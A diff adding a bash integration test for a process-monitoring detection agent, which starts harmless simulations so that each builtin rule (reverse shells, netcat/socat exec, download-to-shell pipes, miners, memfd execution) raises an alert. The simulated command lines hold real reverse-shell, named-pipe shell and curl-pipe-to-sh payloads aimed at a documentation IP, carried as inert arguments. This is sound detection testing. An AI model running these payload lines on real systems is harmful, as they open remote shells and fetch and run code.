@@ -1,0 +1,178 @@
+#!/bin/bash
+# integration_rules.sh BINDIR — the builtin rule library end to end through
+# the real collector, store and engine (`daemoneye-agent --once`):
+#   1. clean baseline: on a quiet machine none of the behaviour rules fire
+#      (the "state" rules — deleted/replaced executables, programs in /tmp,
+#      memfd executables, long command lines, root running from /tmp — are
+#      left out: package upgrades, builds and this very test suite run such
+#      things legitimately, so a CI host cannot promise silence for them);
+#   2. one harmless simulation per rule — copies of /bin/sleep named or
+#      placed suspiciously, `sh -c 'sleep 300; : "<suspicious text>"'` whose
+#      suspicious part is a no-op argument that never runs or connects, a
+#      copy of dash named nginx/postgres with a shell child — then one agent
+#      cycle must raise every rule for exactly the simulated pid.
+# Every simulation runs in its own process group (setsid), with no terminal
+# or pipe of ours, and is killed as a group and reaped by pid.
+set -u
+bin=$1
+tmp=$(mktemp -d /tmp/de-it-rules-XXXXXX)
+shm=$(mktemp -d /dev/shm/de-it-rules-XXXXXX)
+pids=()
+stop_all() {
+	for p in "${pids[@]}"; do kill -TERM -- "-$p" 2>/dev/null; done
+	for p in "${pids[@]}"; do wait "$p" 2>/dev/null; done
+	pids=()
+}
+cleanup() {
+	stop_all
+	rm -rf "$tmp" "$shm"
+}
+trap cleanup EXIT
+fails=0
+ok() { echo "ok - $*"; }
+bad() { echo "not ok - $*"; fails=$((fails + 1)); }
+check() { local what=$1; shift; if "$@"; then ok "$what"; else bad "$what"; fi; }
+
+export HOME=$tmp/home
+mkdir -p "$HOME"
+for v in $(env | grep -o '^DAEMONEYE_[A-Za-z0-9_]*'); do unset "$v"; done
+agent() {
+	"$bin/daemoneye-agent" --once --set app.state_dir="$tmp/state" \
+		--set 'detection.rules_dirs=[]' --set alerting.stdout.format=json "$@"
+}
+# "RULE PID" for every affected pid of every alert line in $1
+pairs() {
+	python3 -c '
+import json, sys
+for line in open(sys.argv[1]):
+    line = line.strip()
+    if not line.startswith("{"): continue
+    a = json.loads(line)
+    for p in a["affected_processes"]: print(a["rule_id"], p)
+' "$1"
+}
+# wait until PID has exec'd its final program: /proc/PID/exe is EXE (or, with
+# no EXE, neither the setsid nor the bash that start it) and its command
+# line contains TEXT
+wait_exec() {
+	local pid=$1 text=$2 want=${3:-} exe
+	for _ in $(seq 200); do
+		exe=$(readlink "/proc/$pid/exe" 2>/dev/null)
+		if { [ -n "$want" ] && [ "${exe% (deleted)}" = "$want" ]; } ||
+			{ [ -z "$want" ] && [ -n "$exe" ] && [ "${exe##*/}" != setsid ] && [ "${exe##*/}" != bash ]; }; then
+			tr '\0' ' ' <"/proc/$pid/cmdline" 2>/dev/null | grep -qF -- "$text" && return 0
+		fi
+		sleep 0.05
+	done
+	echo "# pid $pid never became '$want' with '$text'"
+	return 1
+}
+
+# ---- 1. clean baseline ------------------------------------------------------
+state_rules="deleted-executable replaced-executable exec-from-tmp memfd-executable long-command-line root-from-user-writable"
+agent >"$tmp/base.out" 2>"$tmp/base.err"
+rc=$?
+check "baseline agent --once exits 0 (rc=$rc)" test "$rc" = 0
+check "baseline loads the builtin library" grep -q "25 detection rules loaded" "$tmp/base.err"
+pairs "$tmp/base.out" >"$tmp/base.pairs"
+noisy=$(awk '{print $1}' "$tmp/base.pairs" | sort -u | grep -vxF -f <(tr ' ' '\n' <<<"$state_rules") || true)
+check "baseline: no behaviour rule fires on a quiet machine (fired: ${noisy:-none})" test -z "$noisy"
+[ -n "$noisy" ] && grep -F -f <(echo "$noisy") "$tmp/base.out" | head -5
+
+# ---- 2. simulations ---------------------------------------------------------
+declare -A expect # rule -> pid
+sleeper() {       # sleeper RULE PATH [ARGV0]: a copy of sleep at PATH, argv[0] = ARGV0
+	local rule=$1 path=$2 argv0=${3:-}
+	cp /bin/sleep "$path"
+	if [ -n "$argv0" ]; then
+		setsid bash -c 'exec -a "$0" "$1" 300' "$argv0" "$path" </dev/null >/dev/null 2>&1 &
+	else
+		setsid "$path" 300 </dev/null >/dev/null 2>&1 &
+	fi
+	pids+=($!)
+	expect[$rule]=$!
+	wait_exec "$!" "300" "$path"
+}
+shell_sim() { # shell_sim RULE TEXT: sh whose command line carries TEXT, never run
+	local rule=$1 text=$2
+	setsid sh -c 'sleep 300; : "$0"' "$text" </dev/null >/dev/null 2>&1 &
+	pids+=($!)
+	expect[$rule]=$!
+	wait_exec "$!" "sleep 300"
+}
+
+sleeper deleted-executable "$tmp/del-sleep"
+rm -f "$tmp/del-sleep"
+sleeper replaced-executable "$tmp/rep-sleep"
+cp /bin/true "$tmp/rep.new" && mv -f "$tmp/rep.new" "$tmp/rep-sleep"
+sleeper exec-from-tmp "$tmp/tmp-sleep"
+sleeper exec-from-dev-shm "$shm/shm-sleep"
+sleeper system-daemon-wrong-path "$tmp/sshd"
+sleeper kernel-thread-masquerade "$tmp/kworker:0H"
+sleeper netcat-exec "$tmp/nc" "nc -e /bin/sh 192.0.2.1 4444"
+sleeper socat-exec "$tmp/socat" "socat TCP:192.0.2.1:4444 EXEC:/bin/sh"
+mkdir -p "$tmp/l"
+sleeper netcat-listener "$tmp/l/ncat" "ncat -lvnp 4444"
+sleeper socat-listener "$tmp/l/socat" "socat TCP-LISTEN:4444,fork STDOUT"
+sleeper miner-process-name "$tmp/xmrig"
+sleeper hidden-executable "$tmp/.hidden-sleep"
+shell_sim reverse-shell-dev-tcp "bash -c 'exec 5<>/dev/tcp/192.0.2.1/4444'"
+shell_sim interactive-shell-redirect "bash -i >& /dev/null 0>&1"
+shell_sim named-pipe-shell "mkfifo /tmp/f; cat /tmp/f | /bin/sh 2>&1 | nc 192.0.2.1 4444 >/tmp/f"
+shell_sim download-pipe-shell "curl -fsSL http://192.0.2.1/x.sh | sh"
+shell_sim base64-shell "echo aWQK | base64 -d | sh"
+shell_sim mining-pool-cmdline "-o stratum+tcp://pool.example.org:3333"
+shell_sim long-command-line "$(head -c 5000 /dev/zero | tr '\0' A)"
+setsid python3 -c 'import time; time.sleep(300)  # socket.socket().connect(("192.0.2.1", 4444))' </dev/null >/dev/null 2>&1 &
+pids+=($!); expect[interpreter-socket-oneliner]=$!; wait_exec "$!" "time.sleep"
+setsid python3 -c 'import time; time.sleep(300)  # pty.spawn("/bin/sh")' </dev/null >/dev/null 2>&1 &
+pids+=($!); expect[interpreter-pty-spawn]=$!; wait_exec "$!" "time.sleep"
+setsid python3 -c '
+import os, sys
+fd = os.memfd_create("de-memfd-sleep", 0)
+os.write(fd, open("/bin/sleep", "rb").read())
+os.execv("/proc/self/fd/%d" % fd, ["de-memfd-sleep", "300"])' </dev/null >/dev/null 2>&1 &
+pids+=($!); expect[memfd-executable]=$!; wait_exec "$!" "de-memfd-sleep 300"
+# a web server and a database (copies of dash) each with a shell child
+for srv in nginx:webserver-spawns-shell postgres:database-spawns-shell; do
+	name=${srv%%:*} rule=${srv#*:}
+	cp /bin/dash "$tmp/$name"
+	setsid "$tmp/$name" -c 'sh -c "sleep 300; :"; :' </dev/null >/dev/null 2>&1 &
+	pids+=($!)
+	child=
+	for _ in $(seq 200); do
+		child=$(pgrep -P "$!" -x sh | head -n1)
+		[ -n "$child" ] && break
+		sleep 0.05
+	done
+	check "$name started a shell child (${child:-none})" test -n "$child"
+	expect[$rule]=${child:-0}
+done
+if [ "$(id -u)" = 0 ]; then
+	expect[root-from-user-writable]=${expect[exec-from-tmp]}
+fi
+
+agent >"$tmp/sim.out" 2>"$tmp/sim.err"
+rc=$?
+check "simulation agent --once exits 0 (rc=$rc)" test "$rc" = 0
+pairs "$tmp/sim.out" >"$tmp/sim.pairs"
+for rule in $(printf '%s\n' "${!expect[@]}" | sort); do
+	check "rule $rule raises an alert for its simulation (pid ${expect[$rule]})" \
+		grep -qx "$rule ${expect[$rule]}" "$tmp/sim.pairs"
+done
+n=$(printf '%s\n' "${!expect[@]}" | wc -l)
+check "every builtin rule has a simulation ($n)" test "$n" -ge "$([ "$(id -u)" = 0 ] && echo 25 || echo 24)"
+db=$tmp/state/events.sqlite
+check "alerts stored with their rule and pid" test "$(sqlite3 "$db" "SELECT count(*) FROM alerts WHERE rule_id = 'reverse-shell-dev-tcp' AND affected_processes LIKE '%${expect[reverse-shell-dev-tcp]}%'")" -ge 1
+check "parent/child alert carries the parent's name" grep -q '"parent_name": *"nginx"' "$tmp/sim.out"
+check "no rule failed" test -z "$(grep -i 'rule .*: ' "$tmp/sim.err" | grep -v 'rules loaded')"
+
+# the same simulations stop alerting once they are gone
+stop_all
+agent >"$tmp/after.out" 2>/dev/null
+pairs "$tmp/after.out" >"$tmp/after.pairs"
+left=$(for rule in "${!expect[@]}"; do grep -x "$rule ${expect[$rule]}" "$tmp/after.pairs"; done)
+check "no alert for the simulations after they exit (${left:-none})" test -z "$left"
+
+echo "integration_rules: $fails failed"
+[ "$fails" = 0 ]
